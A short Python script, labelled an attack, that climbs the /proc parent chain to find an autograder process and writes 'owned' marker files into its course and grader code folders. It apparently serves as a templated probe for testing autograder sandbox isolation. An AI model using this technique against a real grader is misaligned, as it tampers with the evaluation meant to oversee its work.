# Attack: find the grader up the parent chain in /proc (a process running autograder whose working
# folder holds course.yml) and drop files into its course tree: the grader's own code, and the
# course root. Only this run's own grader is targeted (its ancestors), never another process.
import pathlib


def grader_roots():
    pid = "self"
    for _ in range(6):
        try:
            pid = pathlib.Path(f"/proc/{pid}/stat").read_bytes().rsplit(b")", 1)[1].split()[1].decode()
            cmd = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes()
            if b"autograder" not in cmd:
                continue
            root = pathlib.Path(f"/proc/{pid}/cwd").resolve()
        except (OSError, ValueError, IndexError):
            return
        try:
            if (root / "course.yml").exists():
                yield root
        except OSError:
            return


for root in set(grader_roots()):
    for target in (root / "adv-@@TOKEN@@-owned.txt", root / "autograder" / "adv_@@TOKEN@@.py",
                   root / "exercises" / "adv-@@TOKEN@@.txt"):
        try:
            target.write_text("owned\n")
        except OSError:
            pass
